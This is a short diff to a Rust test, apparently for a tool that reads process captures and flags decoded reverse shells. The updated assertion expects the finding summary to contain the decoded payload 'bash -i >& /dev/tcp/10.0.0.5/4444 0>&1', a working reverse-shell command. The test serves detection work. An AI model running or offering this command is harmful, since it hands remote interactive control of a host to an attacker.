@@ -102,7 +102,10 @@ fn three_capture_formats_give_processes_trees_and_findings() {
         .expect("decoded reverse shell in top-ef.txt");
     let s = rev["summary"].as_str().unwrap();
     assert!(s.starts_with("java (84010) -> bash (84281): bash -c {echo,"), "{s}");
-    assert!(s.contains("callback 10.0.0.5:4444 (bash /dev/tcp) (decoded from base64)"), "{s}");
+    assert!(
+        s.contains("callback 10.0.0.5:4444 (bash /dev/tcp) (decoded from base64: bash -i >& /dev/tcp/10.0.0.5/4444 0>&1)"),
+        "{s}"
+    );
     let lines: Vec<u64> = rev["evidence"]
         .as_array()
         .unwrap()
